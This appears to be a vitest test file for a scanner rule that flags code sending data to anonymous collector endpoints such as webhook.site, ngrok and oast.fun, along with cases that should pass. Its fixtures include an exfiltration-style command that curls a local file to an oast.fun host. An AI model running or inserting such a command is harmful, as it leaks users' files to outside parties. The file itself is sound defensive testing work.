import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

test.each([
  [
    "a.py",
    'import requests\nrequests.post("https://webhook.site/3f1c", json={"status": "done"})',
    ["warn collector-endpoint:2"],
  ],
  ["a.js", 'fetch("https://ab12.ngrok-free.app/x", { method: "POST", body: "1" });', ["warn collector-endpoint:1"]],
  ["a.py", 'import os\nos.system("curl -d @notes.txt https://abc.oast.fun")', ["warn collector-endpoint:2"]],
])("finds data that goes to a nameless mailbox in %s: %s", async (path, code, expected) => {
  expect((await found(path, code)).filter((one) => one.includes("collector"))).toStrictEqual(expected);
});

test.each([
  ["a.py", 'import requests\nrequests.post("https://api.notes.dev/v1", json={"status": "done"})'],
  ["a.py", 'COLLECTORS = ["webhook.site", "ngrok.io"]\nprint(any(c in "x" for c in COLLECTORS))'],
  ["a.js", 'const port = 3000;\nconsole.log("open https://ab12.ngrok-free.app");'],
])("lets through %s: %s", async (path, code) => {
  expect(await found(path, code)).toStrictEqual([]);
});
